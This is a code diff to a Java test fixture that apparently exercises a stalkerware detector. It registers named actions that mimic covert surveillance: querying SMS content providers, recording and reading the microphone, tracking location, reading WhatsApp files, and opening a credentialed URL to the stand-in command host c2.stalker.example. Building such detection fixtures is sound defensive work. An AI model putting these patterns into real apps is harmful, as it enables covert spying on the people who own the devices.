@@ -6,6 +6,7 @@ import android.app.admin.DevicePolicyManager;
 import android.app.usage.UsageStatsManager;
 import android.content.ClipboardManager;
 import android.content.ComponentName;
+import android.content.ContentProviderClient;
 import android.content.ContentResolver;
 import android.content.Intent;
 import android.content.pm.PackageManager;
@@ -31,6 +32,7 @@ import android.view.accessibility.AccessibilityEvent;
 import com.google.android.gms.location.FusedLocationProviderClient;
 import java.io.FileInputStream;
 import java.net.InetAddress;
+import java.net.ServerSocket;
 import java.net.Socket;
 import java.net.URL;
 import java.util.ArrayList;
@@ -52,7 +54,6 @@ final class Actions {
     private static final ApplicationPackageManager PACKAGES = new ApplicationPackageManager();
     private static final DevicePolicyManager POLICIES = new DevicePolicyManager();
     private static final LocationManager LOCATION = new LocationManager();
-    private static final FusedLocationProviderClient FUSED = new FusedLocationProviderClient();
     private static final ClipboardManager CLIPBOARD = new ClipboardManager();
     private static final SmsManager SMS = new SmsManager();
     private static final ComponentName ICON = new ComponentName("com.example.watched", "com.example.watched.Icon");
@@ -79,6 +80,8 @@ final class Actions {
         Uri uri = Uri.parse("content://" + authority + Planted.PATH + "/" + Planted.NUMBER);
         String where = "address='" + Planted.NUMBER + "' AND body='" + Planted.TEXT + "'";
         BY_NAME.put(category + ".query", () -> RESOLVER.query(uri, null, where, null, null));
+        ContentProviderClient client = new ContentProviderClient();
+        BY_NAME.put(category + ".client-query", () -> client.query(uri, null, where, null, null));
         BY_NAME.put(
                 category + ".observe", () -> RESOLVER.registerContentObserver(uri, true, new ContentObserver()));
         if (authority.equals("media")) {
@@ -104,7 +107,18 @@ final class Actions {
     }
 
     private static void sound() {
-        BY_NAME.put("microphone.record", () -> new AudioRecord(4).startRecording());
+        byte[] audio = Planted.TEXT.getBytes();
+        BY_NAME.put("microphone.record", () -> {
+            AudioRecord recorder = new AudioRecord(4);
+            recorder.startRecording();
+            recorder.read(audio, 0, audio.length);
+        });
+        BY_NAME.put("microphone.read", () -> {
+            AudioRecord underWay = new AudioRecord(1);
+            for (int i = 0; i < 5; i++) {
+                underWay.read(audio, 0, audio.length);
+            }
+        });
         BY_NAME.put("microphone.recorder", () -> {
             MediaRecorder recorder = new MediaRecorder();
             recorder.setAudioSource(1);
@@ -140,9 +154,9 @@ final class Actions {
         BY_NAME.put("location.single", () -> LOCATION.requestSingleUpdate("gps", null, null));
         BY_NAME.put("location.current", () -> LOCATION.getCurrentLocation("fused", null, null, null));
         BY_NAME.put("location.last", () -> LOCATION.getLastKnownLocation(Planted.TEXT));
-        BY_NAME.put("location.fused-updates", () -> FUSED.requestLocationUpdates(null, null, null));
-        BY_NAME.put("location.fused-current", () -> FUSED.getCurrentLocation(100, null));
-        BY_NAME.put("location.fused-last", () -> FUSED.getLastLocation());
+        BY_NAME.put("location.fused-updates", () -> new FusedLocationProviderClient().requestLocationUpdates(null, null, null));
+        BY_NAME.put("location.fused-current", () -> new FusedLocationProviderClient().getCurrentLocation(100, null));
+        BY_NAME.put("location.fused-last", () -> new FusedLocationProviderClient().getLastLocation());
     }
 
     private static void services() {
@@ -199,12 +213,15 @@ final class Actions {
     }
 
     private static void network() {
-        int port = Integer.getInteger("port", 9);
         BY_NAME.put(
                 "network.url",
                 () -> new URL("https://u:p@c2.stalker.example" + Planted.PATH + "?" + Planted.QUERY).openConnection());
         BY_NAME.put("network.resolve", () -> InetAddress.getAllByName("localhost"));
-        BY_NAME.put("network.connect", () -> new Socket("127.0.0.1", port).close());
+        BY_NAME.put("network.connect", () -> {
+            try (ServerSocket server = new ServerSocket(0, 1, InetAddress.getByName("127.0.0.1"))) {
+                new Socket("127.0.0.1", server.getLocalPort()).close();
+            }
+        });
         BY_NAME.put(
                 "messenger-files.open",
                 () -> new FileInputStream(System.getProperty("files") + "/com.whatsapp/" + Planted.FILE).close());
